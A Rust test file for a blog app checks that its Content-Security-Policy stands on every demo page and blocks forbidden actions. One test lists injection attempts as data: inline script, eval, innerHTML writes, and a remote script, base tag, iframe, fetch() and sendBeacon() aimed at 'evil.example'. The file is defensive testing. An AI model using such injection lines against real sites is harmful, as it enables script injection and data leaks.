//! The policy of content: it holds on every page, and nothing that the app does runs into it.

use std::{
    env, fs,
    path::{Path, PathBuf},
};

use serde_json::json;

use crate::{
    blog::Blog,
    host::{Fault, Host, Rule},
    page::{Page, Screen, browse},
};

/// Counts what the policy blocks, from the first moment of every page.
const WATCH: &str = "window.blocked = []; \
    addEventListener('securitypolicyviolation', (event) => blocked.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))";

/// The demo site that `cargo xtask build` made.
fn demo_site() -> PathBuf {
    let site = env::var_os("INKSTONE_SITE").expect("INKSTONE_SITE: `cargo xtask test` sets it");
    Path::new(env!("CARGO_MANIFEST_DIR")).join(site)
}

/// The addresses of all pages below `folder`, and their HTML.
fn pages(folder: &Path, below: &str, found: &mut Vec<(String, String)>) {
    for entry in fs::read_dir(folder).expect("a readable site") {
        let path = entry.expect("an entry").path();
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        if path.is_dir() {
            pages(&path, &format!("{below}{name}/"), found);
        } else if name.ends_with(".html") {
            let address = if name == "index.html" { below.to_owned() } else { format!("{below}{name}") };
            found.push((address, fs::read_to_string(&path).expect("pages are UTF-8")));
        }
    }
}

fn watched(test: impl FnOnce(&Page)) {
    browse(Screen::LAPTOP, |page| {
        page.cdp("Page.addScriptToEvaluateOnNewDocument", json!({ "source": WATCH }));
        test(page);
    });
}

#[test]
fn no_page_of_the_demo_blog_runs_into_its_policy() {
    let mut found = Vec::new();
    pages(&demo_site(), "/", &mut found);
    let of_the_app = |html: &str| html.contains("data-inkstone=\"shell\"");
    let (views, others): (Vec<_>, Vec<_>) = found.into_iter().partition(|(_, html)| of_the_app(html));
    assert!(views.len() > 20, "the demo blog has pages");
    for (address, html) in views.iter().chain(&others) {
        let head = html.split("http-equiv=\"Content-Security-Policy\"").next().unwrap_or_default();
        assert!(head.len() < html.len(), "{address} has no policy");
        assert!(!head.contains("<script") && !head.contains("<link"), "{address} loads something before its policy");
    }
    let host = Host::serve(&demo_site(), "/");
    watched(|page| {
        // One page is the 404 page at its own address, where the app finds nothing to show.
        // The shell is at nobody's address: it stands for all others.
        for (address, _) in views.iter().filter(|(address, _)| address != "/shell.html") {
            page.open(&host.url(address));
            page.wait_for("html[data-inkstone=ready]");
            page.wait_without("[aria-busy=true]");
            page.wait_until("the page has loaded", "document.readyState === 'complete'");
            assert_eq!(page.eval("blocked"), json!([]), "{address}");
        }
        eprintln!("{} pages of the demo blog: nothing was blocked", views.len());
    });
}

#[test]
fn what_the_policy_forbids_does_not_happen() {
    let host = Host::serve(&demo_site(), "/");
    watched(|page| {
        // Each of the attempts is written into the console.
        page.expect_in_console("");
        page.open(&host.url("/"));
        page.wait_for("html[data-inkstone=ready]");
        for (attempt, directive) in [
            (
                "const e = document.createElement('script'); e.textContent = 'window.ran = 1'; document.body.append(e)",
                "require-trusted-types-for",
            ),
            (
                "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
                "require-trusted-types-for",
            ),
            ("eval('window.ran = 1')", "require-trusted-types-for"),
            ("document.body.innerHTML = '<b>'", "require-trusted-types-for"),
            ("trustedTypes.createPolicy('mine', {})", "trusted-types"),
            ("trustedTypes.createPolicy('default', {})", "trusted-types"),
            ("const e = document.createElement('script'); e.src = '/posts/x.md'", "require-trusted-types-for"),
            ("const e = document.createElement('script'); e.src = 'data:,window.ran=1'", "require-trusted-types-for"),
            (
                "const e = document.createElement('script'); e.src = 'https://evil.example/x.js'; document.body.append(e)",
                "script-src-elem",
            ),
            (
                "const e = document.createElement('base'); e.href = 'https://evil.example/'; document.head.append(e)",
                "base-uri",
            ),
            ("const e = document.createElement('object'); e.data = '/icon.svg'; document.body.append(e)", "object-src"),
            (
                "const e = document.createElement('iframe'); e.src = 'https://evil.example/'; document.body.append(e)",
                "frame-src",
            ),
            (
                "const e = document.createElement('style'); e.textContent = 'b{}'; document.body.append(e)",
                "style-src-elem",
            ),
            ("document.body.setAttribute('style', 'color:red')", "style-src-attr"),
            ("fetch('https://evil.example/').catch(() => {})", "connect-src"),
            ("navigator.sendBeacon('https://evil.example/')", "connect-src"),
            ("new Worker('blob:x')", "require-trusted-types-for"),
        ] {
            page.eval("blocked.length = 0");
            // By itself: what DevTools evaluate may evaluate in turn.
            page.eval(&format!("setTimeout(() => {{ try {{ {attempt} }} catch {{}} }})"));
            page.wait_until(attempt, "blocked.length > 0");
            let by = page.eval_text("blocked[0].split(' ')[0]");
            assert_eq!(by, directive, "{attempt}");
            assert_eq!(page.eval("window.ran ?? 0"), json!(0), "{attempt}");
        }
    });
}

#[test]
fn a_host_that_sends_an_older_policy_has_pages_with_their_styles() {
    let blog = Blog::of("article");
    browse(Screen::LAPTOP, |page| {
        page.expect_in_console("Content Security Policy");
        let older = "style-src 'self'; script-src 'self' 'wasm-unsafe-eval'".to_owned();
        blog.break_by(Rule::always("/posts/plain/", Fault::Header("Content-Security-Policy", older)));
        page.open(&blog.url("/posts/plain/"));
        page.wait_for("html[data-inkstone=ready] article.post");
        for (css, property, value) in [(".site-head", "display", "grid"), (".post-foot-line", "display", "flex")] {
            page.wait_until(
                css,
                &format!("getComputedStyle(document.querySelector('{css}')).{property} === '{value}'"),
            );
        }
        let sheets = "[...document.styleSheets].filter(({ href }) => /(first|style)-/.test(href)).length";
        page.wait_until("both sheets have come", &format!("{sheets} === 2"));
    });
}
